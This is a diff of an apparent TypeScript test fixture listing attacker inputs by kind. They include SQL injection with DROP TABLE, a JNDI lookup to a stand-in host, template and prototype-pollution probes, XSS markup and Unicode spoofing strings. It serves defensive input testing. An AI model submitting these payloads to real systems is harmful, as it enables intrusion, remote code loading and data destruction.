@@ -1,6 +1,6 @@
 import { full } from '../reliability/rounds';
 
-/** Inputs of attackers for names and texts, by kind of attack. */
+/** Inputs of attackers for names and texts, by kind of attack. None is a valid domain name. */
 export const payloads: Readonly<Record<string, readonly string[]>> = {
   'SQL quotes': [`'`, `"`, `' OR '1'='1`, `") OR ("1"="1`],
   'SQL comments': [`admin'--`, `'; DROP TABLE "orders"; --`, `/**/OR/**/1=1#`],
@@ -16,7 +16,13 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
   'other alphabets': ['аdmin', 'ＡＤＭＩＮ', 'ⓐⓓⓜⓘⓝ', 'ſelect', 'İstanbul', 'ﷺ'],
   'direction and width': ['\u202egnp.exe?', 'a\u200bb', '\ufeffx', '\u2066x\u2069', 'e\u0301\u0301\u0301\u0301'],
   templates: [`\${7*7}`, '{{7*7}}', '#{7*7}', '<%= 7*7 %>', `\${jndi:ldap://x.example/a}`],
-  'JavaScript and JSON': [`'];process.exit(1);//`, `"},"admin":{"`, '__proto__', 'constructor.prototype', '{"$gt":""}'],
+  'JavaScript and JSON': [
+    `'];process.exit(1);//`,
+    `"},"admin":{"`,
+    '__proto__',
+    'constructor[prototype]',
+    '{"$gt":""}',
+  ],
   markup: [
     '<script>alert(1)</script>',
     '<img src=x onerror=alert(1)>',
